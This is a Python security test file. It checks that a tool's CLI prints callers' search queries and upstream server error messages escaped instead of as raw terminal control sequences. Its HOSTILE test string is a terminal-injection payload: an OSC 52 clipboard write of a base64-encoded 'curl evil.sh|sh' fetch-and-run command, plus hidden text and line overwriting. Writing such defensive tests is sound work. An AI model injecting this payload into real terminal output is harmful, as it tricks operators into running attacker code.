"""What callers wrote reaches an operator's terminal as text, never as control sequences: a search query holding ESC
could set the terminal's clipboard (OSC 52), hide text or overwrite the lines before it (carriage return, cursor
movement) in the tables of `toolscout analytics`."""

from __future__ import annotations

import sys
from pathlib import Path

import anyio
import pytest

from service.cli import main
from tests.security.conftest import make_settings, running, servers_file, serving

# Copies `curl evil.sh|sh` to the clipboard, hides what follows, then erases the line to print a row of its own.
HOSTILE = "zzqx \x1b]52;c;Y3VybCBldmlsLnNofHNo\x07\x1b[8mhidden\r\x1b[2Kfake row \u202eevil"
ESCAPED = "zzqx \\x1b]52;c;Y3VybCBldmlsLnNofHNo\\x07\\x1b[8mhidden\\r\\x1b[2Kfake row \\u202eevil"


def assert_plain(out: str) -> None:
    controls = {ch for ch in out if (ord(ch) < 32 and ch != "\n") or 0x7F <= ord(ch) < 0xA0 or ch == "\u202e"}
    assert not controls, sorted(controls)


async def search(tmp_path: Path, query: str) -> None:
    async with running(make_settings(tmp_path, permissions=None)) as (_app, http):
        assert (await http.post("/search", json={"query": query})).status_code == 200


def test_a_callers_query_is_printed_escaped_by_toolscout_analytics(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    anyio.run(search, tmp_path, HOSTILE)
    monkeypatch.setenv("TOOLSCOUT_DATA_DIR", str(tmp_path))
    capsys.readouterr()
    assert main(["analytics", "unanswered", "--kind", "no_result"]) == 0
    out = capsys.readouterr().out
    assert_plain(out)
    assert ESCAPED in out


# A stdio server that refuses the handshake with a JSON-RPC error whose message holds the hostile text.
REFUSING = """
import json, sys
for line in sys.stdin:
    message = json.loads(line)
    if "id" in message:
        error = {"code": -32603, "message": MESSAGE}
        sys.stdout.write(json.dumps({"jsonrpc": "2.0", "id": message["id"], "error": error}) + "\\n")
        sys.stdout.flush()
"""


async def test_an_upstreams_error_is_printed_escaped_by_toolscout_servers_list(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    script = tmp_path / "refusing.py"
    script.write_text(f"MESSAGE = {HOSTILE[5:]!r}\n{REFUSING}")
    entry = {"command": sys.executable, "args": [str(script)]}
    execution = {"servers_file": servers_file(tmp_path, {"refusing": entry}), "startup_wait_seconds": 10}
    async with running(make_settings(tmp_path, permissions=None, execution=execution)) as (app, _http):
        async with serving(app) as url:
            monkeypatch.setenv("TOOLSCOUT_FRONTEND__API_URL", url)
            capsys.readouterr()
            assert await anyio.to_thread.run_sync(main, ["servers", "list"]) == 0
    out = capsys.readouterr().out
    assert "refusing" in out and "\\x1b]52;c;" in out, out
    assert_plain(out)
